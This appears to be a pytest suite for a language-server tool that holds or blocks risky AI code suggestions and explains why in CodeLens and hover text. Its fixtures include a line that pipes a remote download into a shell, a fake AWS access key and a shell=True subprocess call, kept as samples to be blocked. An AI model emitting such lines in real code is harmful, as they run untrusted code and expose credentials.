"""A withheld suggestion where the user looks: its CodeLens line and its hover (standard LSP, any
client), the generic Review through workspace/applyEdit, readable reasons in the pending list, and
the status's last decision for ghost text that was allowed with findings."""

from __future__ import annotations

import json

import pytest
from lsp_helpers import Doc, audit_records, by_code, command, inline, pending, sha256, wait_for
from lsprotocol import types
from pytest_lsp import LanguageClient

# `import subprocess` is already in the file: its B404 is the user's, never a reason.
RUN_DOC = "import subprocess\n\n\ndef run(cmd):\n    "
RISKY = "return subprocess.call(cmd, shell=True)"
CLEAN_DOC = "def cleanup():\n    "
BLOCKED = 'os.system("curl -s http://203.0.113.7/x | sh")\n    aws_key = "AKIAQ4Z7X2M5N8P4R6TB"'
SECRET = "AKIAQ4Z7X2M5N8P4R6TB"
ADD_DOC = "def add(a, b):\n    "
LOW = "assert a is not None\n    return a + b"

SCRIPT = {"def run(cmd)": RISKY, "def cleanup()": BLOCKED, "def add(a, b)": LOW}


async def lenses(client: LanguageClient, doc: Doc) -> list[types.CodeLens]:
    result = await client.text_document_code_lens_async(
        types.CodeLensParams(text_document=types.TextDocumentIdentifier(uri=doc.uri))
    )
    return list(result or [])


async def hover(client: LanguageClient, doc: Doc, line: int) -> str:
    result = await client.text_document_hover_async(
        types.HoverParams(
            text_document=types.TextDocumentIdentifier(uri=doc.uri), position=types.Position(line=line, character=2)
        )
    )
    assert result is not None, f"no hover on line {line}"
    assert isinstance(result.contents, types.MarkupContent) and result.contents.kind == types.MarkupKind.Markdown
    return result.contents.value


@pytest.mark.lsp(script=SCRIPT)
async def test_held_suggestion_has_a_lens_and_a_hover_that_say_what_and_why(client: LanguageClient):
    doc = Doc(client, client.workspace / "run.py", RUN_DOC)
    assert list((await inline(client, doc)).items) == []
    await wait_for(lambda: by_code(doc.diagnostics(), "held-for-review"))
    token = by_code(doc.diagnostics(), "held-for-review")[0].data["token"]

    head, review, discard = await lenses(client, doc)
    assert {lens.range.start.line for lens in (head, review, discard)} == {4}
    assert head.command.title.startswith("⚠ AI suggestion held: ")
    assert "shell" in head.command.title.lower()
    assert (review.command.title, review.command.command) == ("Review", "sandgate.review")
    assert (discard.command.title, discard.command.command) == ("Discard", "sandgate.discard")
    assert list(review.command.arguments) == [{"token": token}] == list(discard.command.arguments)

    page = await hover(client, doc, 4)
    assert page.startswith("**AI suggestion held for review**")
    assert f"```python\n{RISKY}\n```" in page  # the code itself
    why = page.split("**Why it was held for review**")[1].split("**Already in the file")[0]
    assert "[B602](https://bandit.readthedocs.io/" in why and "line 1 of the suggestion" in why
    assert "held for review: review" not in page and "{" not in why  # said once, no JSON
    # The file's own `import subprocess` is kept apart, and on the line the buffer has it.
    existing = page.split("**Already in the file before the suggestion**")[1]
    assert "B404" in existing and "line 1" in existing and "B404" not in why
    assert "[CWE-78](https://cwe.mitre.org/data/definitions/78.html)" in page

    # No hover, and no lens, away from the suggestion's line.
    none = await client.text_document_hover_async(
        types.HoverParams(
            text_document=types.TextDocumentIdentifier(uri=doc.uri), position=types.Position(line=0, character=3)
        )
    )
    assert none is None

    # The pending list says the same in words: no JSON object as a reason, lines as the buffer counts them.
    (item,) = (await pending(client))["items"]
    assert item["headline"] in head.command.title and item["details"] == page
    for reason in item["reasons"]:
        assert reason["message"] and not reason["message"].startswith("{") and "review:" not in reason["message"]
    b404 = next(f for f in item["findings"] if f["rule"] == "B404")
    assert b404["origin"] == "document" and b404["where"] == "line 1"

    # Discarded: the lens goes.
    await command(client, "sandgate.discard", {"token": token})
    assert await lenses(client, doc) == []


@pytest.mark.lsp(script=SCRIPT)
async def test_blocked_suggestion_says_every_reason_and_never_its_code(client: LanguageClient):
    doc = Doc(client, client.workspace / "clean.py", CLEAN_DOC)
    assert list((await inline(client, doc)).items) == []
    (diagnostic,) = await wait_for(lambda: by_code(doc.diagnostics(), "blocked"))
    (blocked,) = (await pending(client))["recent"]
    reasons = blocked["reasons"]
    assert len(reasons) >= 2, reasons  # a secret and a download piped to a shell

    head, details = await lenses(client, doc)
    assert head.command.title.startswith("⛔ AI suggestion blocked: ")
    assert f"and {len(reasons) - 1} more reason" in head.command.title
    assert (details.command.title, details.command.command) == ("Show details", "sandgate.showDetails")
    assert list(details.command.arguments) == [{"id": blocked["id"]}] and diagnostic.data["id"] == blocked["id"]

    page = await hover(client, doc, 1)
    assert page.startswith("**AI suggestion blocked**")
    assert "never shown" in page and "```python" not in page and SECRET not in page
    why = page.split("**Why it was blocked**")[1]
    for reason in reasons:
        assert f"[{reason['finding'].split(':', 1)[1]}](" in why
    assert f"({len(reasons)})" in page
    # Every reason is in the diagnostic too (not only the first three).
    for reason in reasons:
        assert reason["finding"].split(":", 1)[1] in diagnostic.message

    said = await command(client, "sandgate.showDetails", {"id": blocked["id"]})
    assert said["ok"] and SECRET not in said["message"] and said["details"] == page


@pytest.mark.lsp(script=SCRIPT)
async def test_review_applies_through_the_client_then_approves(client: LanguageClient):
    doc = Doc(client, client.workspace / "run.py", RUN_DOC)
    await inline(client, doc)
    (diagnostic,) = await wait_for(lambda: by_code(doc.diagnostics(), "held-for-review"))
    token = diagnostic.data["token"]
    asked: list[types.ApplyWorkspaceEditParams] = []

    @client.feature(types.WORKSPACE_APPLY_EDIT)
    def apply_edit(params: types.ApplyWorkspaceEditParams):
        asked.append(params)
        edit = params.edit
        if edit.document_changes:
            doc.apply([e for change in edit.document_changes for e in change.edits])
        else:
            doc.apply(list(edit.changes[doc.uri]))
        return types.ApplyWorkspaceEditResult(applied=True)

    result = await command(client, "sandgate.review", {"token": token})
    assert result["ok"] is True and result["sha256"] == sha256(RISKY)
    assert doc.text == RUN_DOC + RISKY
    (params,) = asked
    if client.profile == "visual-studio-code":  # it confirms annotated edits: the user is asked first
        (annotation,) = params.edit.change_annotations.values()
        assert annotation.needs_confirmation is True and RISKY in annotation.description
    (approval,) = [r for r in audit_records(client.workspace) if r["event"] == "approval"]
    assert approval["content_sha256"] == sha256(RISKY)
    assert await lenses(client, doc) == []


@pytest.mark.lsp(script=SCRIPT)
async def test_review_declined_by_the_client_keeps_it_held(client: LanguageClient):
    doc = Doc(client, client.workspace / "run.py", RUN_DOC)
    await inline(client, doc)
    (diagnostic,) = await wait_for(lambda: by_code(doc.diagnostics(), "held-for-review"))

    @client.feature(types.WORKSPACE_APPLY_EDIT)
    def apply_edit(params: types.ApplyWorkspaceEditParams):
        return types.ApplyWorkspaceEditResult(applied=False)

    result = await command(client, "sandgate.review", {"token": diagnostic.data["token"]})
    assert result["ok"] is False and result["inserted"] is False
    assert doc.text == RUN_DOC
    assert [a for a in audit_records(client.workspace) if a["event"] == "approval"] == []
    assert len(await lenses(client, doc)) == 3


@pytest.mark.lsp(script=SCRIPT)
async def test_client_is_asked_to_refresh_lenses_when_a_suggestion_is_withheld(vscode_client: LanguageClient):
    client = vscode_client
    before = client.lens_refreshes
    doc = Doc(client, client.workspace / "run.py", RUN_DOC)
    await inline(client, doc)
    await wait_for(lambda: client.lens_refreshes > before)
    (diagnostic,) = by_code(doc.diagnostics(), "held-for-review")
    seen = client.lens_refreshes
    await command(client, "sandgate.discard", {"token": diagnostic.data["token"]})
    await wait_for(lambda: client.lens_refreshes > seen)  # and when it goes


@pytest.mark.lsp(script=SCRIPT, settings={"policy": {"preset": "balanced"}})
async def test_status_says_the_last_decision_and_what_an_allowed_vet_found(vscode_client: LanguageClient):
    client = vscode_client
    doc = Doc(client, client.workspace / "calc.py", ADD_DOC)
    (item,) = (await inline(client, doc)).items
    assert item.insert_text == LOW
    last = await wait_for(lambda: client.statuses[-1].get("lastDecision"))
    assert last["decision"] == "allow"
    assert last["message"].startswith("allowed, vetted in the sandbox (bwrap): 1 low finding"), last
    assert last["findings"] == "1 low finding"

    held = Doc(client, client.workspace / "run.py", RUN_DOC)
    await inline(client, held)
    later = await wait_for(lambda: (s := client.statuses[-1].get("lastDecision")) and s["seq"] > last["seq"] and s)
    assert later["decision"] == "block" and later["message"].startswith("blocked: ")  # balanced blocks shell=True
    assert "block:" not in json.dumps(later)
